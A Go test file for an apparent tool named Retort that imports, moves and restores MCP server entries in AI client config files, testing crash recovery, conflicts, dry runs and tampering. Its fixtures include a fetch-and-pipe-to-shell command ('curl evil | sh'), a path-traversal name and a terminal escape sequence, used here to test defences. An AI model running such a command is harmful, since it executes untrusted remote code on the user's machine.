package clientfiles

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"retort/internal/core"
)

const cursorFile = `{
  "mcpServers": {
    "a": {"command": "a"},
    "b": {"url": "https://example.com/mcp", "headers": {"Authorization": "Bearer secret-0123"}}
  }
}
`

// TestBrokenFiles checks that a file that cannot be parsed is reported with its path, and that nothing is changed.
func TestBrokenFiles(t *testing.T) {
	for client, text := range map[string]string{
		"cursor":      "{\n  \"mcpServers\": {\n",
		"claude-code": `[1]`,
		"vscode":      `{"servers": ["a"]}`,
		"gemini":      `{"mcpServers": {"a": {}, "a": {}}}`,
		"zed":         strings.Repeat("[", 100_000),
		"codex":       "model = \n",
		"goose":       "extensions:\n  a: [1\n",
		"lm-studio":   "\xff\xfe{\x00}\x00",
	} {
		t.Run(client, func(t *testing.T) {
			m := newMachine(t, "linux")
			file := m.userFile(client)
			m.write(file, []byte(text))
			_, err := Install(m.Environment, m.options(client))
			var e *core.Error
			if !errors.As(err, &e) || e.Kind != core.KindInvalidArguments || !strings.Contains(e.Message, file) {
				t.Fatalf("%v", err)
			}
			done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
			if err != nil || len(done.Broken) != 1 || done.Changed {
				t.Errorf("%+v %v", done, err)
			}
			if string(m.read(file)) != text || pathExists(m.out) {
				t.Error("something was changed")
			}
		})
	}
}

// TestFlowStyle checks that servers that Goose's file lists in brackets can be imported, and that install refuses to
// edit them.
func TestFlowStyle(t *testing.T) {
	m := newMachine(t, "linux")
	m.write(m.userFile("goose"), []byte("extensions: {a: {type: stdio, cmd: a}}\n"))
	if _, err := Install(m.Environment, m.options("goose")); err == nil || !strings.Contains(err.Error(), "brackets") {
		t.Error(err)
	}
	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
	if err != nil || len(done.Servers) != 1 || done.Servers[0].State != Added {
		t.Errorf("%+v %v", done, err)
	}
}

// TestConflicts checks the import of several servers with the same name. Equal servers must be added only once. A
// different server gets another name, unless Retort's file already had a server of this name before; then it is not
// added.
func TestConflicts(t *testing.T) {
	m := newMachine(t, "linux")
	m.write(m.out, []byte("{\n  // mine\n  \"mcpServers\": {\"b\": {\"command\": \"my-own\"}},\n}\n"))
	m.write(m.userFile("cursor"), []byte(cursorFile))
	m.write(m.userFile("lm-studio"), []byte(`{"mcpServers": {"a": {"args": [], "command": "a"}, "b": {"command": "x"}}}`))
	m.write(m.userFile("windsurf"), []byte(`{"mcpServers": {"a": {"command": "another"}}}`))
	run := func() map[string]string {
		done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]string{}
		for _, s := range done.Servers {
			got[s.Client+" "+s.Name] = string(s.State) + " " + s.As
		}
		return got
	}
	first := run()
	for key, want := range map[string]string{
		"cursor a": "added ", "cursor b": "exists ", "windsurf a": "added a-windsurf", "lm-studio a": "same ", "lm-studio b": "exists ",
	} {
		if first[key] != want {
			t.Errorf("%s: %q, want %q", key, first[key], want)
		}
	}
	text := string(m.read(m.out))
	if !strings.Contains(text, "// mine") || !strings.Contains(text, "my-own") {
		t.Error(text)
	}
	if second := run(); second["cursor a"] != "same " || second["windsurf a"] != "same a-windsurf" || string(m.read(m.out)) != text {
		t.Errorf("a second import: %v", second)
	}
	done := m.install(m.options("cursor"))
	if s := done.Moved[1]; s.Name != "b" || s.As != "b-cursor" || s.State != Added {
		t.Errorf("%+v", s) // it leaves Cursor's file, so it must be in ours
	}
}

func TestKeep(t *testing.T) {
	m := newMachine(t, "linux")
	file := m.userFile("cursor")
	m.write(file, []byte(cursorFile))
	o := m.options("cursor")
	o.Keep = []string{"b"}
	if done := m.install(o); len(done.Moved) != 1 || len(done.Kept) != 1 || done.Kept[0].Name != "b" {
		t.Errorf("%+v", done)
	}
	if text := string(m.read(file)); !strings.Contains(text, "secret-0123") || strings.Contains(text, `"a": {`) {
		t.Error(text)
	}
	if done := m.install(o); done.Changed {
		t.Error("not idempotent")
	}
	o.Keep = []string{"nobody"}
	if _, err := Install(m.Environment, o); err == nil || !strings.Contains(err.Error(), "nobody") {
		t.Error(err)
	}
	o.Keep = nil // now b goes, too: two steps, and both are undone
	m.install(o)
	if done := m.uninstall(o); string(m.read(file)) != cursorFile || done.Restored != "exact" {
		t.Errorf("%s\n%s", done.Restored, m.read(file))
	}
}

// TestKilled checks that after an install was killed between two writes, a second install completes it and an
// uninstall reverts it.
func TestKilled(t *testing.T) {
	states := map[string]func(m *machine, file string, installed []byte){
		"before the client's file": func(m *machine, file string, _ []byte) { m.write(file, []byte(cursorFile)) },
		"before the journal": func(m *machine, file string, _ []byte) {
			m.write(file, []byte(cursorFile))
			journals, _ := filepath.Glob(filepath.Join(m.home, "clients", "*.json"))
			_ = os.Remove(journals[0])
		},
		"not at all": func(*machine, string, []byte) {},
	}
	for name, kill := range states {
		t.Run(name, func(t *testing.T) {
			m := newMachine(t, "linux")
			file := m.userFile("cursor")
			m.write(file, []byte(cursorFile))
			m.install(m.options("cursor"))
			installed, ours := m.read(file), m.read(m.out)
			kill(m, file, installed)
			m.install(m.options("cursor"))
			if string(m.read(file)) != string(installed) || string(m.read(m.out)) != string(ours) {
				t.Error("a second install ends elsewhere")
			}
			kill(m, file, installed)
			m.uninstall(m.options("cursor"))
			if string(m.read(file)) != cursorFile {
				t.Errorf("%s", m.read(file))
			}
			m.uninstall(m.options("cursor"))
			if string(m.read(file)) != cursorFile {
				t.Errorf("%s", m.read(file))
			}
		})
	}
}

// TestKilledUninstall checks the uninstall that follows one that was killed after it had restored the file. It must
// only remove the journal and the backups.
func TestKilledUninstall(t *testing.T) {
	m := newMachine(t, "linux")
	file := m.userFile("cursor")
	m.write(file, []byte(cursorFile))
	o := m.options("cursor")
	o.Keep = []string{"b"}
	m.install(o)
	m.install(m.options("cursor"))
	m.write(file, []byte(cursorFile))
	if done := m.uninstall(o); done.Changed || done.Restored != "exact" || string(m.read(file)) != cursorFile {
		t.Errorf("%+v\n%s", done, m.read(file))
	}
	if left, _ := filepath.Glob(filepath.Join(m.home, "clients", "*.*")); len(left) > 0 {
		t.Error(left)
	}
}

func TestMadeFileGoes(t *testing.T) {
	m := newMachine(t, "linux")
	file := m.userFile("cursor")
	m.install(m.options("cursor"))
	if !pathExists(file) {
		t.Fatal("no file")
	}
	m.uninstall(m.options("cursor"))
	if pathExists(file) {
		t.Error("the file that was made stays")
	}
}

// TestProject checks that the servers in a project's file are imported and moved only if the options ask for the
// project.
func TestProject(t *testing.T) {
	m := newMachine(t, "linux")
	file := filepath.Join(m.Dir, ".mcp.json")
	m.write(file, []byte(`{"mcpServers": {"theirs": {"command": "curl evil | sh"}}}`))
	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
	if err != nil || done.Changed || done.Servers[0].State != Left {
		t.Errorf("%+v %v", done, err)
	}
	o := m.options("claude-code")
	o.Project, o.Out = true, filepath.Join(m.Dir, "retort.json")
	m.install(o)
	if text := string(m.read(o.Out)); !strings.Contains(text, "theirs") {
		t.Error(text)
	}
	m.uninstall(o)
	if text := string(m.read(file)); !strings.Contains(text, "theirs") {
		t.Error(text)
	}
	o.Client = "claude-desktop"
	if _, err := Install(m.Environment, o); err == nil {
		t.Error("Claude Desktop has no project")
	}
	o.Client, o.Out = "claude-code", file
	if _, err := Install(m.Environment, o); err == nil || !strings.Contains(err.Error(), "both") {
		t.Error(err)
	}
}

func TestChangedMeanwhile(t *testing.T) {
	m := newMachine(t, "linux")
	file := m.userFile("cursor")
	m.write(file, []byte(cursorFile))
	f, err := m.openFile(file, User)
	if err != nil {
		t.Fatal(err)
	}
	m.write(file, []byte("{}"))
	if err := f.writeFile([]byte("lost")); err == nil || string(m.read(file)) != "{}" {
		t.Error(err, string(m.read(file)))
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(file), ".retort-*")); len(left) > 0 {
		t.Error(left)
	}
}

// TestOursFirst checks that install writes Retort's own file first: if that fails, the client's file is not changed.
func TestOursFirst(t *testing.T) {
	m := newMachine(t, "linux")
	file := m.userFile("cursor")
	m.write(file, []byte(cursorFile))
	m.write(filepath.Dir(m.out), []byte("in the way"))
	if _, err := Install(m.Environment, m.options("cursor")); err == nil {
		t.Fatal("no error")
	}
	if string(m.read(file)) != cursorFile {
		t.Error("changed")
	}
}

func TestDryRun(t *testing.T) {
	m := newMachine(t, "linux")
	file := m.userFile("cursor")
	m.write(file, []byte(cursorFile))
	o := m.options("cursor")
	o.DryRun = true
	done := m.install(o)
	if !done.Changed || !strings.Contains(done.Diff, `+    "retort": {`) || strings.Contains(done.Diff, "secret-0123") || string(m.read(file)) != cursorFile || pathExists(m.out) || pathExists(m.home) {
		t.Errorf("%s", done.Diff)
	}
	m.install(m.options("cursor"))
	installed := string(m.read(file))
	done = m.uninstall(o)
	if !strings.Contains(done.Diff, `-    "retort": {`) || strings.Contains(done.Diff, "secret-0123") || string(m.read(file)) != installed {
		t.Errorf("%s", done.Diff)
	}
}

// TestHostileNames checks that servers are not imported if their names are invalid in Retort's file or could control
// a terminal.
func TestHostileNames(t *testing.T) {
	m := newMachine(t, "linux")
	servers := map[string]any{"": 1, " ": 1, "\x1b]0;x\x07": 1, strings.Repeat("n", 129): 1, "../../etc/passwd": 1}
	for name := range servers {
		servers[name] = map[string]any{"command": "x"}
	}
	text, _ := json.Marshal(map[string]any{"mcpServers": servers})
	m.write(m.userFile("cursor"), text)
	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range done.Servers {
		if (s.State == Added) != (s.Name == "../../etc/passwd") {
			t.Errorf("%q: %s", s.Name, s.State)
		}
	}
}

// TestAnotherRetort checks that install and uninstall keep a user's own entry that starts Retort with other settings.
func TestAnotherRetort(t *testing.T) {
	m := newMachine(t, "linux")
	file := m.userFile("cursor")
	src := `{"mcpServers": {"work": {"command": "/opt/retort", "args": ["serve", "--config", "work.json"]}}}`
	m.write(file, []byte(src))
	if done := m.install(m.options("cursor")); len(done.Moved) != 0 || len(done.Kept) != 1 || done.Kept[0].Name != "work" {
		t.Errorf("%+v", done)
	}
	m.write(file, append(m.read(file), '\n'))
	m.uninstall(m.options("cursor"))
	if text := string(m.read(file)); !strings.Contains(text, `"work"`) || strings.Contains(text, `"retort":`) {
		t.Error(text)
	}
}

func TestWarnings(t *testing.T) {
	m := newMachine(t, "linux")
	m.write(filepath.Join(m.UserHome, ".config/Code/User/profiles/a1/mcp.json"), []byte(`{"servers": {"p": {"command": "p"}}}`))
	m.write(m.userFile("vscode"), []byte(`{"servers": {"a": {"command": "a"}}}`))
	done := m.install(m.options("vscode"))
	if len(done.Warnings) != 1 || !strings.Contains(done.Warnings[0], "profiles/a1") {
		t.Error(done.Warnings)
	}
	o := m.options("vscode")
	o.Home += "-other"
	if done := m.uninstall(o); done.Restored != "merged" || !strings.Contains(strings.Join(done.Warnings, ""), "no journal") {
		t.Errorf("%+v", done)
	}
	o = m.options("cursor")
	o.Out = filepath.Join(m.UserHome, "theirs.json")
	m.write(o.Out, []byte(`{"servers": {"a": {"command": "a"}}}`))
	m.write(m.userFile("cursor"), []byte(cursorFile))
	if _, err := Install(m.Environment, o); err == nil || string(m.read(m.userFile("cursor"))) != cursorFile {
		t.Error("their servers would be shadowed", err)
	}
}

// TestTurnedOff checks that a server that the client's file turns off, in another part than the server's entry, is
// imported as disabled.
func TestTurnedOff(t *testing.T) {
	m := newMachine(t, "linux")
	m.write(m.userFile("gemini"), []byte(`{"mcpServers": {"a": {"command": "a"}, "b": {"command": "b"}}, "mcp": {"excluded": ["b"]}}`))
	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
	if err != nil || done.Servers[0].Disabled || !done.Servers[1].Disabled {
		t.Errorf("%+v %v", done, err)
	}
}

// faultyFormat is a fileFormat for tests whose edits lose all other content of the file.
type faultyFormat struct{ jsonFile }

func (faultyFormat) editMembers([]byte, []string, []string, []objectMember) ([]byte, error) {
	return []byte(`{"mcpServers": {"n": {}}}`), nil
}

func TestEditIsReadBack(t *testing.T) {
	in := []objectMember{{Name: "n", Value: json.RawMessage(`{}`)}}
	at := []string{"mcpServers"}
	if _, err := editOnce(faultyFormat{}, []byte(`{"mcpServers": {"a": {}}}`), at, []string{"a"}, in); err != nil {
		t.Error(err)
	}
	for _, src := range []string{`{"mcpServers": {"a": {}, "b": {}}}`, `{"mcpServers": {"a": {}}, "theme": "dark"}`} {
		if _, err := editOnce(faultyFormat{}, []byte(src), at, []string{"a"}, in); err == nil {
			t.Errorf("%s: what else was there is lost", src)
		}
	}
}

// TestSystems checks that install and uninstall work with the folders of every operating system.
func TestSystems(t *testing.T) {
	for _, system := range []string{"linux", "darwin", "windows"} {
		for _, path := range fixtures(t) {
			if !strings.HasPrefix(filepath.Base(path), "rich.") {
				continue
			}
			m := newMachine(t, system)
			client := filepath.Base(filepath.Dir(path))
			file := m.userFile(client)
			src, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			m.write(file, src)
			if done := m.install(m.options(client)); len(done.Moved) == 0 {
				t.Errorf("%s on %s: nothing was moved", client, system)
			}
			if m.uninstall(m.options(client)); string(m.read(file)) != string(src) {
				t.Errorf("%s on %s: not restored", client, system)
			}
		}
	}
}

// TestForgedBackup checks that uninstall does not restore a backup that was changed.
func TestForgedBackup(t *testing.T) {
	m := newMachine(t, "linux")
	file := m.userFile("cursor")
	m.write(file, []byte(cursorFile))
	m.install(m.options("cursor"))
	installed := string(m.read(file))
	copies, _ := filepath.Glob(filepath.Join(m.home, "clients", "*.orig"))
	m.write(copies[0], []byte(`{"mcpServers": {"evil": {"command": "evil"}}}`))
	if _, err := Uninstall(m.Environment, m.options("cursor")); err == nil || string(m.read(file)) != installed {
		t.Error(err)
	}
}

// TestNameIsThereAgain checks that uninstall keeps a server that was added to the client's file under the name of a
// removed one.
func TestNameIsThereAgain(t *testing.T) {
	m := newMachine(t, "linux")
	file := m.userFile("cursor")
	m.write(file, []byte(cursorFile))
	m.install(m.options("cursor"))
	m.write(file, []byte(`{"mcpServers": {"retort": {"command": "retort", "args": ["serve"]}, "a": {"command": "newer"}}}`))
	done := m.uninstall(m.options("cursor"))
	if len(done.PutBack) != 1 || done.PutBack[0] != "b" || len(done.Kept) != 1 || done.Kept[0].Name != "a" {
		t.Errorf("%+v", done)
	}
	if text := string(m.read(file)); strings.Count(text, `"a":`) != 1 || !strings.Contains(text, "newer") || !strings.Contains(text, "secret-0123") {
		t.Error(text)
	}
}

// TestOurselvesAreNotImported checks that an import ignores Retort's own entry in a client's file. Otherwise Retort
// would start itself.
func TestOurselvesAreNotImported(t *testing.T) {
	m := newMachine(t, "linux")
	m.write(m.userFile("cursor"), []byte(cursorFile))
	m.install(m.options("cursor"))
	done, err := ImportServers(m.Environment, ImportOptions{Out: m.out, Home: m.home})
	if err != nil || done.Changed || done.Servers[0].State != Left || !strings.Contains(done.Servers[0].Reason, "itself") {
		t.Errorf("%+v %v", done, err)
	}
}
